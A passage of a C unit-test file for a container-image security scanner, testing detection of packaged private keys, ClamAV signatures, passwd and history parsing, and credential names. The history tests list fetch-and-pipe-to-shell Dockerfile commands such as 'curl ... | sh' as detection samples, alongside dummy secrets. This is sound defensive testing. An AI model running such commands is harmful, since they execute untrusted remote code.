	char *dir = unit_mktmp(), *img, *json;
	char *ka = pem_key(1), *kb = pem_key(2), *kb2 = pem_key(3), *kc = pem_key(4);
	char *kg = pem_key(5), *ki = pem_key(6), *kd1 = pem_key(7), *kd2 = pem_key(8);
	char *kf = pem_key(9);
	struct bh_buf doc = BH_BUF_INIT(1u << 16), other = BH_BUF_INIT(1u << 16);
	struct bh_buf other2 = BH_BUF_INIT(1u << 16), gone = BH_BUF_INIT(1u << 16);
	struct bh_buf i386 = BH_BUF_INIT(1u << 16), evil = BH_BUF_INIT(1u << 16);
	struct bh_buf forged = BH_BUF_INIT(1u << 16);
	const char *status =
		"Package: docpkg\nStatus: install ok installed\nArchitecture: all\n"
		"Version: 1.0-1\n\nPackage: otherpkg\nStatus: install ok installed\n"
		"Architecture: amd64\nVersion: 2.0-1\n\nPackage: gonepkg\n"
		"Status: deinstall ok config-files\nArchitecture: all\nVersion: 0.9-1\n";
	char *status2 = bh_asprintf("%s\nPackage: forged\nStatus: install ok installed\n"
				    "Architecture: all\nVersion: 1\n",
				    status);
	json_t *l1 = json_array(), *l2 = json_array();
	struct bh_findings f = { 0 };
	const struct bh_finding *x;

	md5sums_line(&doc, ka, "usr/share/doc/docpkg/examples/key.pem");
	md5sums_line(&doc, kb, "usr/share/doc/docpkg/examples/server.pem");
	md5sums_line(&other, "x\n", "usr/share/doc/otherpkg/README");
	md5sums_line(&other2, "x\n", "usr/share/doc/otherpkg/README");
	md5sums_line(&other2, kd2, "app/planted2.pem");
	md5sums_line(&gone, kg, "usr/share/doc/gonepkg/key.pem");
	md5sums_line(&i386, ki, "usr/share/doc/otherpkg/key.pem");
	md5sums_line(&evil, kd1, "app/planted.pem");
	md5sums_line(&forged, kf, "app/forged.pem");
	add_file(l1, "var/lib/dpkg/status", status);
	add_file(l1, "var/lib/dpkg/info/docpkg.md5sums", doc.data);
	add_file(l1, "var/lib/dpkg/info/otherpkg.md5sums", other.data);
	add_file(l1, "var/lib/dpkg/info/gonepkg.md5sums", gone.data);
	add_file(l1, "var/lib/dpkg/info/otherpkg:i386.md5sums", i386.data);
	add_file(l1, "usr/share/doc/docpkg/examples/key.pem", ka);    /* (a) */
	add_file(l1, "usr/share/doc/docpkg/examples/server.pem", kb); /* (a), then (b) */
	add_file(l1, "usr/share/doc/docpkg/examples/extra.pem", kc);  /* (c) */
	add_file(l1, "usr/share/doc/gonepkg/key.pem", kg);	      /* not installed */
	add_file(l1, "usr/share/doc/otherpkg/key.pem", ki);	      /* other arch */
	add_file(l1, "usr/share/doc/otherpkg/README", "x\n");
	add_file(l2, "usr/share/doc/docpkg/examples/server.pem", kb2);	 /* (b) */
	add_file(l2, "app/planted.pem", kd1);				 /* (d) */
	add_file(l2, "var/lib/dpkg/info/evil.md5sums", evil.data);	 /* not installed */
	add_file(l2, "app/planted2.pem", kd2);				 /* (d) */
	add_file(l2, "var/lib/dpkg/info/otherpkg.md5sums", other2.data); /* rewritten */
	add_file(l2, "app/forged.pem", kf);
	add_file(l2, "var/lib/dpkg/status", status2);
	add_file(l2, "var/lib/dpkg/info/forged.md5sums", forged.data);
	json = spec_of(l1, l2);
	img = build_image(dir, json);
	if (!img)
		goto out;

	/* By default a package's own unchanged file is left out... */
	scan_dpkg(img, false, &f);
	assert_null(secret_at(&f, "/usr/share/doc/docpkg/examples/key.pem", 0));
	assert_null(secret_at(&f, "/usr/share/doc/docpkg/examples/server.pem", 0));
	assert_null(secret_at(&f, "/app/forged.pem", 1));
	/* ...and everything else is reported as before. */
	x = secret_at(&f, "/usr/share/doc/docpkg/examples/server.pem", 1);
	assert_non_null(x);
	assert_int_equal(x->severity, BH_SEV_HIGH);
	assert_int_equal(x->pkg, SIZE_MAX);
	assert_int_equal(sev_at(&f, "/usr/share/doc/docpkg/examples/extra.pem", 0), BH_SEV_HIGH);
	assert_int_equal(sev_at(&f, "/usr/share/doc/gonepkg/key.pem", 0), BH_SEV_HIGH);
	assert_int_equal(sev_at(&f, "/usr/share/doc/otherpkg/key.pem", 0), BH_SEV_HIGH);
	assert_int_equal(sev_at(&f, "/app/planted.pem", 1), BH_SEV_HIGH);
	assert_int_equal(sev_at(&f, "/app/planted2.pem", 1), BH_SEV_HIGH);
	assert_int_equal(count(&f, "BH-SECRET-PRIVATE-KEY"), 6);
	bh_findings_release(&f);

	/* With secret_include_packaged: LOW, with the package. */
	scan_dpkg(img, true, &f);
	assert_int_equal(count(&f, "BH-SECRET-PRIVATE-KEY"), 9);
	x = secret_at(&f, "/usr/share/doc/docpkg/examples/key.pem", 0);
	assert_non_null(x);
	assert_int_equal(x->severity, BH_SEV_LOW);
	assert_int_equal(x->removed_layer, -1);
	assert_int_not_equal(x->pkg, SIZE_MAX);
	assert_non_null(strstr(x->title, "package docpkg"));
	assert_non_null(strstr(x->description, "docpkg 1.0-1"));
	x = secret_at(&f, "/usr/share/doc/docpkg/examples/server.pem", 0);
	assert_non_null(x);
	assert_int_equal(x->severity, BH_SEV_LOW);
	assert_int_equal(x->removed_layer, 1);
	assert_non_null(strstr(x->title, "deleted in layer 2"));
	assert_int_equal(sev_at(&f, "/usr/share/doc/docpkg/examples/server.pem", 1), BH_SEV_HIGH);
	assert_int_equal(sev_at(&f, "/app/planted2.pem", 1), BH_SEV_HIGH);
	x = secret_at(&f, "/app/forged.pem", 1);
	assert_non_null(x);
	assert_int_equal(x->severity, BH_SEV_LOW);
	assert_non_null(strstr(x->title, "package forged"));
	bh_findings_release(&f);
	free(img);
out:
	free(json);
	free(status2);
	free(ka);
	free(kb);
	free(kb2);
	free(kc);
	free(kg);
	free(ki);
	free(kd1);
	free(kd2);
	free(kf);
	bh_buf_release(&doc);
	bh_buf_release(&other);
	bh_buf_release(&other2);
	bh_buf_release(&gone);
	bh_buf_release(&i386);
	bh_buf_release(&evil);
	bh_buf_release(&forged);
	unit_rmtmp(dir);
	if (!img)
		skip();
}

/* apk: the Z: line (SHA-1) vouches for a file; other content does not. A
 * path through a symlinked directory (etc/ssl -> ../usr/lib/ssl) is followed. */
static void packaged_secrets_apk(void **state)
{
	char *dir = unit_mktmp(), *img, *json, *db;
	char *ka = pem_key(11), *kb = pem_key(12), *kb2 = pem_key(13), *kl = pem_key(14);
	char *sa = apk_sum(ka), *sb = apk_sum(kb), *sl = apk_sum(kl);
	json_t *l1 = json_array();
	struct bh_findings f = { 0 };
	struct bh_content_opts o = { 0 };

	db = bh_asprintf("P:docs\nV:1.0-r0\nA:x86_64\nF:usr/share/doc/docs\nR:key.pem\n"
			 "a:0:0:644\nZ:%s\nR:changed.pem\nZ:%s\nF:etc/ssl\nR:test.pem\nZ:%s\n",
			 sa, sb, sl);
	add_file(l1, "lib/apk/db/installed", db);
	add_file(l1, "usr/share/doc/docs/key.pem", ka);
	add_file(l1, "usr/share/doc/docs/changed.pem", kb2);
	json_array_append_new(l1, json_pack("{s:s, s:s, s:s}", "name", "etc/ssl", "type", "symlink",
					    "link", "../usr/lib/ssl"));
	add_file(l1, "usr/lib/ssl/test.pem", kl);
	json = spec_of(l1, NULL);
	img = build_image(dir, json);
	if (img) {
		o.secrets = true;
		scan_image(img, &o, NULL, true, &f);
		assert_null(secret_at(&f, "/usr/share/doc/docs/key.pem", 0));
		assert_null(secret_at(&f, "/usr/lib/ssl/test.pem", 0));
		assert_int_equal(sev_at(&f, "/usr/share/doc/docs/changed.pem", 0), BH_SEV_HIGH);
		assert_int_equal(f.n, 1);
		bh_findings_release(&f);
		/* Without the inventory nothing counts as packaged. */
		scan_image(img, &o, NULL, false, &f);
		assert_int_equal(count(&f, "BH-SECRET-PRIVATE-KEY"), 3);
		bh_findings_release(&f);
		free(img);
	}
	free(json);
	free(db);
	free(ka);
	free(kb);
	free(kb2);
	free(kl);
	free(sa);
	free(sb);
	free(sl);
	unit_rmtmp(dir);
	if (!img)
		skip();
}

static void clamav_when_installed(void **state)
{
	char *dir, *img, *db;
	struct bh_content_opts o = { 0 };
	struct bh_findings f = { 0 };
	const struct bh_finding *x;
	/* A signature database of our own (ClamAV's needs the network): the hex
	 * of "bulkhead-clamav-canary". */
	const char *ndb = "Bulkhead.Test.Canary:0:*:62756c6b686561642d636c616d61762d63616e617279\n";

	if (access("/usr/bin/clamscan", X_OK) != 0)
		skip(); /* clamscan is not installed */
	dir = unit_mktmp();
	db = bh_asprintf("%s/canary.ndb", dir);
	must(bh_write_file_atomic(db, ndb, strlen(ndb), 0644, NULL), NULL, db);
	img = build_image(dir,
			  "{\"format\": \"oci\", \"layers\": ["
			  "{\"members\": [{\"name\": \"opt/x.bin\", \"data\": \"1 "
			  "bulkhead-clamav-canary 2\"}, {\"name\": \"opt/ok\", \"data\": \"ok\"}]},"
			  "{\"members\": [{\"name\": \"opt/x.bin\", \"type\": \"whiteout\"}]}]}");
	if (!img) {
		free(db);
		unit_rmtmp(dir);
		skip();
	}
	o.malware = true;
	o.clamav = true;
	o.clamav_db = db;
	o.tmpdir = dir;
	scan_image(img, &o, NULL, false, &f);
	x = need(&f, "BH-MALWARE-CLAMAV", "/opt/x.bin");
	assert_non_null(strstr(x->title, "Bulkhead.Test.Canary"));
	assert_int_equal(x->layer, 0);
	assert_int_equal(x->removed_layer, 1);
	assert_int_equal(f.n, 1);
	bh_findings_release(&f);
	/* Not installed: a warning, no findings, no failure. */
	o.clamscan = "/nonexistent/clamscan";
	scan_image(img, &o, NULL, false, &f);
	assert_int_equal(f.n, 0);
	/* A database clamscan cannot read: an error. */
	{
		struct bh_error *err = NULL;
		struct bh_image *im = NULL;
		struct bh_content *c = NULL;
		struct bh_merge *m;
		struct bh_fileset *fs = NULL;
		struct bh_consumer *cons[2];

		o.clamscan = NULL;
		o.clamav_db = "/nonexistent.ndb";
		must(bh_image_open(img, NULL, &im, &err), err, img);
		must(bh_content_new(im, &o, &c, &err), err, "new");
		m = bh_merge_new(im);
		cons[0] = bh_merge_consumer(m);
		cons[1] = bh_content_consumer(c);
		must(bh_image_walk_consumers(im, NULL, cons, 2, &err), err, "walk");
		must(bh_merge_finish(m, &fs, &err), err, "merge");
		assert_true(bh_content_finish(c, fs, NULL, &f, &err) < 0);
		assert_error(err, BH_ERR_IO, "clamscan");
		bh_error_free(err);
		bh_content_free(c);
		bh_merge_free(m);
		bh_fileset_free(fs);
		bh_image_free(im);
	}
	/* Nothing left behind in the staging directory's parent. */
	{
		char *cmd = bh_asprintf("ls -d %s/bulkhead-clamav.* 2>/dev/null | grep -q .", dir);

		assert_int_not_equal(system(cmd), 0);
		free(cmd);
	}
	bh_findings_release(&f);
	free(img);
	free(db);
	unit_rmtmp(dir);
}

/* ---- parsers -------------------------------------------------------------------------- */

static void passwd_parser(void **state)
{
	const char *pw = "# comment\n+nis\nroot:x:0:0:root:/root:/bin/bash\n"
			 "daemon:x:1:1::/:/usr/sbin/nologin\nbad line\nweird:x:abc:0::/:\n"
			 "toor:x:0:0::/:/bin/sh\nbig:x:99999999999:0::/:\nlast:x:1000:1000";
	uint32_t uid = 7;
	struct bh_error *err = NULL;

	assert_int_equal(bh_content_passwd_uid(pw, strlen(pw), "root", &uid, &err), 1);
	assert_int_equal(uid, 0);
	assert_int_equal(bh_content_passwd_uid(pw, strlen(pw), "toor", &uid, &err), 1);
	assert_int_equal(uid, 0);
	assert_int_equal(bh_content_passwd_uid(pw, strlen(pw), "daemon", &uid, &err), 1);
	assert_int_equal(uid, 1);
	assert_int_equal(bh_content_passwd_uid(pw, strlen(pw), "last", &uid, &err), 1);
	assert_int_equal(uid, 1000);
	assert_int_equal(bh_content_passwd_uid(pw, strlen(pw), "weird", &uid, &err), 0);
	assert_int_equal(bh_content_passwd_uid(pw, strlen(pw), "big", &uid, &err), 0);
	assert_int_equal(bh_content_passwd_uid(pw, strlen(pw), "nis", &uid, &err), 0);
	assert_int_equal(bh_content_passwd_uid(pw, strlen(pw), "roo", &uid, &err), 0);
	assert_int_equal(bh_content_passwd_uid(pw, strlen(pw), "", &uid, &err), 0);
	assert_int_equal(bh_content_passwd_uid("root:x:", 7, "root", &uid, &err), 0);
	assert_int_equal(bh_content_passwd_uid("root::", 6, "root", &uid, &err), 0);
	assert_int_equal(
		bh_content_passwd_uid(pw, (size_t)BH_CONTENT_MAX_PASSWD + 1, "x", &uid, &err), -1);
	assert_error(err, BH_ERR_LIMIT, "passwd");
	bh_error_free(err);
}

static void history_parser(void **state)
{
	struct bh_history_issues is;
	static const struct {
		const char *s;
		unsigned flags;
	} cases[] = {
		{ "/bin/sh -c #(nop) ADD https://example.com/a.tgz /opt/", BH_HIST_ADD_URL },
		{ "ADD https://example.com/a.tgz /opt/ # buildkit", BH_HIST_ADD_URL },
		{ "ADD --chown=1:1 http://x/y /z", BH_HIST_ADD_URL },
		{ "ADD --checksum=sha256:0123 https://example.com/a.tgz /opt/", 0 },
		{ "/bin/sh -c #(nop) ADD file:0123abcd in / ", 0 },
		{ "COPY https-notes.txt /x", 0 },
		{ "RUN curl -fsSL https://x.sh | sh", BH_HIST_PIPE_SHELL },
		{ "RUN wget -qO- https://x.sh | sudo -E bash -s -- -y", BH_HIST_PIPE_SHELL },
		{ "/bin/sh -c curl -s https://x | /bin/bash", BH_HIST_PIPE_SHELL },
		{ "RUN bash <(curl -s https://x.sh)", BH_HIST_PIPE_SHELL },
		{ "RUN sh -c \"$(wget -O- https://x.sh)\"", BH_HIST_PIPE_SHELL },
		{ "RUN curl -fsSL https://x.sh | python3 -", BH_HIST_PIPE_SHELL },
		{ "RUN curl -o /tmp/x https://x && sha256sum -c sums | grep OK", 0 },
		{ "RUN curl https://x | tar xz && ./configure", 0 },
		{ "RUN echo curl | sh", BH_HIST_PIPE_SHELL }, /* conservative: looks like it */
		{ "RUN apt-get update || curl https://x", 0 },
		{ "ENV DB_PASSWORD=hunter2", BH_HIST_SECRET },
		{ "|2 GITHUB_TOKEN=abc123xyz VERSION=1 /bin/sh -c make", BH_HIST_SECRET },
		{ "ENV PASSWORD_FILE=/run/secrets/db", 0 },
		{ "ENV PWD=/app", 0 },
		{ "ENV API_KEY=${API_KEY}", 0 },
		{ "ENV SECRET=\"\"", 0 },
		{ "ARG NPM_TOKEN", 0 },
		{ "", 0 },
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		unsigned got = bh_content_history_check(cases[i].s, strlen(cases[i].s), &is);

		if (got != cases[i].flags)
			fail_msg("'%s': flags %u, want %u", cases[i].s, got, cases[i].flags);
	}
	bh_content_history_check("ENV DB_PASSWORD=hunter2", 23, &is);
	assert_string_equal(is.name, "DB_PASSWORD");
	assert_string_equal(is.value, "hunter2");
	bh_content_history_check("ADD https://example.com/a.tgz /opt/", 35, &is);
	assert_string_equal(is.url, "https://example.com/a.tgz");
	assert_int_equal(bh_content_history_check(NULL, 0, &is), 0);
}

static void credential_names(void **state)
{
	static const char *const yes[] = { "DB_PASSWORD",   "password",	    "MYSQL_ROOT_PASSWORD",
					   "API_KEY",	    "GITHUB_TOKEN", "aws_secret_access_key",
					   "client_secret", "db.password",  "REDIS_PASS_PWD",
					   "PRIVATE_KEY",   "Passphrase" };
	static const char *const no[] = { "PATH",
					  "PWD",
					  "OLDPWD",
					  "PASSWORD_FILE",
					  "SECRET_NAME",
					  "TOKEN_URL",
					  "API_KEY_ID",
					  "HOME",
					  "NODE_ENV",
					  "GPG_KEY",
					  "PASSWORD_MIN_LENGTH",
					  "" };

	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++)
		if (!bh_content_credential_name(yes[i], strlen(yes[i])))
			fail_msg("%s is a credential name", yes[i]);
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		if (bh_content_credential_name(no[i], strlen(no[i])))
			fail_msg("%s is not a credential name", no[i]);
}

struct paths {
	char got[8][64];
	char pkg[8][32];
	char sum[8][64];
	size_t n;
};

static void collect(const char *path, size_t n, const char *pkg, const char *sum, void *data)
{
	struct paths *p = data;

	if (p->n < 8) {
		snprintf(p->got[p->n], sizeof(p->got[0]), "%.*s", (int)n, path);
		snprintf(p->pkg[p->n], sizeof(p->pkg[0]), "%s", pkg ? pkg : "-");
		snprintf(p->sum[p->n], sizeof(p->sum[0]), "%s", sum ? sum : "-");
	}
	p->n++;
}

static void package_file_lists(void **state)
{
	struct paths p = { 0 };
	const char *dpkg = "/.\n/usr\n/usr/bin/passwd\r\n\n//bin/su\n";
	const char *apk = "C:Q1abc\nP:busybox\nV:1.36\nF:bin\nR:busybox\nR:sh\nF:etc\nR:motd\n"
			  "R:../evil\nR:\n\nP:musl\nF:lib\nR:ld-musl-x86_64.so.1\nR:no/slash\n";
	struct bh_error *err = NULL;

	assert_int_equal(bh_content_dpkg_list(dpkg, strlen(dpkg), collect, &p, &err), 3);
	assert_string_equal(p.got[0], "usr");
	assert_string_equal(p.got[1], "usr/bin/passwd");
	assert_string_equal(p.got[2], "bin/su");
	memset(&p, 0, sizeof(p));
	assert_int_equal(bh_content_apk_files(apk, strlen(apk), collect, &p, &err), 4);
	assert_string_equal(p.got[0], "bin/busybox");
	assert_string_equal(p.pkg[0], "busybox");
	assert_string_equal(p.got[1], "bin/sh");
	assert_string_equal(p.got[2], "etc/motd");
	assert_string_equal(p.got[3], "lib/ld-musl-x86_64.so.1");
	assert_string_equal(p.pkg[3], "musl");
	assert_int_equal(bh_content_apk_files(apk, (64u << 20) + 1, collect, &p, &err), -1);
	assert_error(err, BH_ERR_LIMIT, "apk");
	bh_error_free(err);
}

static void package_checksums(void **state)
{
	struct paths p = { 0 };
	/* Hex in either case, "*" of binary mode, a leading "/", CRLF; lines that
	 * are not "<32 hex> <path>" are skipped. */
	const char *md5 = "D41D8CD98F00B204E9800998ECF8427E  usr/share/doc/a/key.pem\n"
			  "0123456789abcdef0123456789abcdef *//etc/x\r\n"
			  "0123456789abcdef0123456789abcdeg  bad-hex\n"
			  "0123456789abcdef0123456789abcdef\n"
			  "0123456789abcdef0123456789abcdef  \n"
			  "0123456789abcdef0123456789abcdefX y\n";
	/* apk: Z: belongs to the R: before it, within its package and F:. */
	const char *apk =
		"P:musl\nF:lib\nR:libc.so\na:0:0:755\nZ:Q1/3iAPFqkw1S9rHVYE33YDpVRlVI=\n"
		"R:ld.so\nP:b\nZ:Q1orphan=\nF:etc\nR:x\nZ:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=\n";
	struct bh_error *err = NULL;

	assert_int_equal(bh_content_dpkg_md5sums(md5, strlen(md5), collect, &p, &err), 2);
	assert_string_equal(p.got[0], "usr/share/doc/a/key.pem");
	assert_string_equal(p.sum[0], "d41d8cd98f00b204e9800998ecf8427e");
	assert_string_equal(p.pkg[0], "-");
	assert_string_equal(p.got[1], "etc/x");
	assert_string_equal(p.sum[1], "0123456789abcdef0123456789abcdef");
	memset(&p, 0, sizeof(p));
	assert_int_equal(bh_content_apk_files(apk, strlen(apk), collect, &p, &err), 3);
	assert_string_equal(p.got[0], "lib/libc.so");
	assert_string_equal(p.pkg[0], "musl");
	assert_string_equal(p.sum[0], "Q1/3iAPFqkw1S9rHVYE33YDpVRlVI=");
	assert_string_equal(p.got[1], "lib/ld.so");
	assert_string_equal(p.pkg[1], "musl");
	assert_string_equal(p.sum[1], "-");
	assert_string_equal(p.got[2], "etc/x");
	assert_string_equal(p.pkg[2], "b");
	assert_string_equal(p.sum[2], "Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=");
	assert_int_equal(bh_content_dpkg_md5sums(md5, (64u << 20) + 1, collect, &p, &err), -1);
	assert_error(err, BH_ERR_LIMIT, "md5sums");
	bh_error_free(err);
}

static void checks_listed(void **state)
{
	size_t n;
	const struct bh_content_check *c = bh_content_checks(&n);

	assert_int_equal(n, 17);
	for (size_t i = 0; i < n; i++) {
		char want[32];

		snprintf(want, sizeof(want), "BH-CFG-%03zu", i + 1);
		assert_string_equal(c[i].id, want);
		assert_non_null(c[i].title);
		assert_non_null(c[i].remediation);
		assert_true(!strcmp(c[i].countermeasure, "4.1.2") ||
			    !strcmp(c[i].countermeasure, "4.1.4"));
	}
}

static void default_rules_dir(void **state)
{
	char *d = bh_content_default_rules_dir("/x/rules");

	assert_string_equal(d, "/x/rules");
	free(d);
	/* Beside build/rel/tests there is no rules/: NULL, or an installed one. */
	d = bh_content_default_rules_dir("");
	free(d);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(debian_app_gzip),
		cmocka_unit_test(debian_app_zstd),
		cmocka_unit_test(skip_checks),
		cmocka_unit_test(debian_minbase_clean),
		cmocka_unit_test(alpine_clean),
		cmocka_unit_test(eicar_in_lower_layer),
		cmocka_unit_test(blocklist_and_user_rules),
		cmocka_unit_test(builtin_rules_prefiltered),
		cmocka_unit_test(bad_rules_and_blocklist),
		cmocka_unit_test(credentials_files),
		cmocka_unit_test(overwritten_with_same_secret),
		cmocka_unit_test(packaged_secrets_dpkg),
		cmocka_unit_test(packaged_secrets_apk),
		cmocka_unit_test(clamav_when_installed),
		cmocka_unit_test(passwd_parser),
		cmocka_unit_test(history_parser),
		cmocka_unit_test(credential_names),
		cmocka_unit_test(package_file_lists),
		cmocka_unit_test(package_checksums),
		cmocka_unit_test(checks_listed),
		cmocka_unit_test(default_rules_dir),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
